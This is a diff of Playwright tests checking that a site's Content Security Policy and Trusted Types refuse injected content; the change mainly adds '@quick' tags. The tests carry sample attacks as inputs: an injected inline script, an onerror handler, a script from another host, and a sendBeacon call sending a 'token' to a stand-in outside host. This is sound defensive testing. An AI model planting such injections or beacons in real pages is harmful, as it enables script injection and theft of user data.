@@ -27,19 +27,26 @@ test.beforeEach(async ({ page }) => {
   await expect(page.getByRole('heading', { name: 'Login' })).toBeVisible()
 })
 
-test('an inline script that got into the page does not run', async ({ page }) => {
-  await page.route('/signup', async (route) => {
-    const response = await route.fetch()
-    const body = (await response.text()).replace('</body>', '<script>hasRun = true</script></body>')
-    await route.fulfill({ response, body })
-  })
-  const refusal = page.waitForEvent('console', (message) => message.text().includes('script-src'))
-  await page.goto('/signup')
-  await refusal
-  expect(await hasRun(page)).toBe(false)
-})
+test(
+  'an inline script that got into the page does not run',
+  { tag: '@quick' },
+  async ({ page }) => {
+    await page.route('/signup', async (route) => {
+      const response = await route.fetch()
+      const body = (await response.text()).replace(
+        '</body>',
+        '<script>hasRun = true</script></body>',
+      )
+      await route.fulfill({ response, body })
+    })
+    const refusal = page.waitForEvent('console', (message) => message.text().includes('script-src'))
+    await page.goto('/signup')
+    await refusal
+    expect(await hasRun(page)).toBe(false)
+  },
+)
 
-test('an injected event handler does not run', async ({ page }) => {
+test('an injected event handler does not run', { tag: '@quick' }, async ({ page }) => {
   const refused = await refusedBy(page, () => {
     const picture = document.createElement('img')
     picture.setAttribute('onerror', 'window.hasRun = true')
@@ -50,14 +57,14 @@ test('an injected event handler does not run', async ({ page }) => {
   expect(await hasRun(page)).toBe(false)
 })
 
-test('text is not turned into markup', async ({ page }) => {
+test('text is not turned into markup', { tag: '@quick' }, async ({ page }) => {
   const refused = await refusedBy(page, () => {
     document.body.insertAdjacentHTML('beforeend', '<b>hello</b>')
   })
   expect(refused).toEqual(['require-trusted-types-for'])
 })
 
-test('a script of another host is not loaded', async ({ page }) => {
+test('a script of another host is not loaded', { tag: '@quick' }, async ({ page }) => {
   const refused = await refusedBy(page, () => {
     const script = document.createElement('script')
     script.src = 'https://elsewhere.example/x.js'
@@ -66,7 +73,7 @@ test('a script of another host is not loaded', async ({ page }) => {
   expect(refused.join()).toMatch(/trusted-types|script-src/)
 })
 
-test('data is not sent to another host', async ({ page }) => {
+test('data is not sent to another host', { tag: '@quick' }, async ({ page }) => {
   const refused = await refusedBy(page, () => {
     navigator.sendBeacon('https://elsewhere.example/', 'token')
   })
